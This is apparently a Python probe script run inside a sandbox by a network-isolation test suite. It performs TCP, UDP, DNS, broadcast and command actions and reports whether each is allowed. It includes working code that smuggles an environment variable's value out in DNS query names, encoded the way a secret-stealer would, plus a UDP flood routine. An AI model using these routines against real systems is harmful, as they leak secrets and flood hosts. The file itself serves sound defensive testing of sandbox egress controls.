# SPDX-License-Identifier: MIT
"""Runs inside the sandbox for test-net.py: performs network actions and prints one JSON line
per action with its outcome and how long it took, measured here, inside the skill.

Usage: net-probe.py ACTION...  where each ACTION is a JSON list:
  ["tcp", host, port, text]     connect, send text + newline, read the answer until the
                                server closes
  ["udp", host, port, text]     send one datagram, wait for an answer (5 s at most)
  ["udp_send", addr, port, text] send one datagram and wait for nothing; broadcast allowed
                                (SO_BROADCAST), IPv6 link-local multicast out of the first
                                interface that is not lo
  ["dns", server, name]         a raw DNS query (type A) over UDP to server:53
  ["udpflood", host, port, nports, n]
                                n datagrams to host, port .. port+nports-1 in turn; the
                                errno of each failed send is counted
  ["exfil", server, zone, var]  DNS queries to server:53 carrying the value of the
                                environment variable var, encoded several ways (names below)
  ["resolve", name]             getaddrinfo(name)
  ["run", argv...]              run a command, report its exit code and output
  ["file", path]                the content of a file
  ["wait"]                      print "waiting" and block until stdin closes
  ["sigwait"]                   print "waiting for SIGUSR1" and block until it arrives
"""

import base64
import errno
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time

# How long an allowed exchange may take. Refusals come back at once (test-net.py checks that
# they do, within 2 s); these bounds only stop a dropped packet from hanging the probe, and
# are generous so that a slow, loaded host does not turn an allowed exchange into a failure.
TIMEOUT = 10.0
UDP_TIMEOUT = 5.0


def err_name(e):
    if getattr(e, "errno", None):
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(host, port, text):
    family, kind, proto, _, addr = socket.getaddrinfo(host, port, socket.AF_UNSPEC,
                                                      socket.SOCK_STREAM)[0]
    s = socket.socket(family, kind, proto)
    s.settimeout(TIMEOUT)
    try:
        s.connect(addr)
        s.sendall(text.encode() + b"\n")
        # Until the server closes (net-server.py does, after its one line): the connection
        # is then over on both sides before this one closes, whatever the load, and the
        # relay's net.close can say so.
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        return {"ok": True, "data": data.decode(errors="replace").strip()}
    finally:
        s.close()


def udp(host, port, text):
    s = socket.socket(family_of(host), socket.SOCK_DGRAM)
    s.settimeout(UDP_TIMEOUT)
    try:
        s.connect((host, port))
        s.send(text.encode())
        data = s.recv(4096)
        return {"ok": True, "data": data.decode(errors="replace")}
    finally:
        s.close()


def udp_send(addr, port, text):
    s = socket.socket(family_of(addr), socket.SOCK_DGRAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        dest = (addr, port)
        if ":" in addr and addr.lower().startswith(("ff02:", "fe80:")):
            dest = (addr, port, 0, [i for i, n in socket.if_nameindex() if n != "lo"][0])
        s.sendto(text.encode(), dest)
        return {"ok": True}
    finally:
        s.close()


def dns_query(name, qid=0x5b0c):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)


def dns(server, name):
    s = socket.socket(family_of(server), socket.SOCK_DGRAM)
    s.settimeout(UDP_TIMEOUT)
    try:
        s.connect((server, 53))
        s.send(dns_query(name))
        data = s.recv(4096)
        answers = struct.unpack(">H", data[6:8])[0] if len(data) >= 12 else 0
        addrs = []
        if answers and len(data) >= 4:
            # The test's resolver puts a single A record last.
            addrs.append(socket.inet_ntoa(data[-4:]))
        return {"ok": True, "answers": answers, "addresses": addrs}
    finally:
        s.close()


def udpflood(host, port, nports, n):
    s = socket.socket(family_of(host), socket.SOCK_DGRAM)
    errors = {}
    try:
        for i in range(n):
            try:
                s.sendto(b"x", (host, port + i % nports))
            except OSError as e:
                errors[err_name(e)] = errors.get(err_name(e), 0) + 1
    finally:
        s.close()
    return {"ok": True, "errors": errors}


def exfil_names(value, zone):
    """The names a stealer would put a secret in: base64 (URL alphabet), base32, hex split
    over labels, and the value itself."""
    v = value.encode()
    b64 = base64.urlsafe_b64encode(v).decode().rstrip("=")
    b32 = base64.b32encode(b"x" + v).decode().rstrip("=").lower()
    hx = v.hex()
    return {
        "literal": f"exfil-{value}{zone}",
        "base64": f"exfil-{b64}{zone}",
        "base32": f"b-{b32[:9]}.{b32[9:]}{zone}",
        "hex": f"h{hx[:7]}.{hx[7:20]}.{hx[20:]}{zone}",
    }


def exfil(server, zone, var):
    names = exfil_names(os.environ[var], zone)
    out = {}
    for kind, name in names.items():
        try:
            out[kind] = dns(server, name).get("ok")
        except OSError as e:
            out[kind] = err_name(e)
    return {"ok": all(x is True for x in out.values()), "sent": out}


def resolve(name):
    infos = socket.getaddrinfo(name, None, socket.AF_UNSPEC, socket.SOCK_STREAM)
    return {"ok": True, "addresses": sorted({i[4][0] for i in infos})}


def run(*argv):
    p = subprocess.run(list(argv), capture_output=True, timeout=10)
    return {
        "ok": p.returncode == 0,
        "rc": p.returncode,
        "stdout": p.stdout.decode(errors="replace")[-2000:],
        "stderr": p.stderr.decode(errors="replace")[-2000:],
    }


def read_file(path):
    with open(path) as f:
        return {"ok": True, "data": f.read()}


def wait():
    print(json.dumps({"action": ["wait"], "ok": True, "waiting": True}), flush=True)
    sys.stdin.read()
    return {"ok": True}


def sigwait():
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    print(json.dumps({"action": ["sigwait"], "ok": True, "waiting": True}), flush=True)
    signal.sigwait({signal.SIGUSR1})
    return {"ok": True}


ACTIONS = {"sigwait": sigwait, "tcp": tcp, "udp": udp, "udp_send": udp_send, "dns": dns, "udpflood": udpflood,
           "exfil": exfil, "resolve": resolve, "run": run, "file": read_file, "wait": wait}


def main():
    for arg in sys.argv[1:]:
        action = json.loads(arg)
        t0 = time.monotonic()
        try:
            result = ACTIONS[action[0]](*action[1:])
        except Exception as e:  # the outcome is the point: report it
            result = {"ok": False, "error": err_name(e), "message": str(e)}
        result["elapsed"] = round(time.monotonic() - t0, 4)
        result["action"] = action
        print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
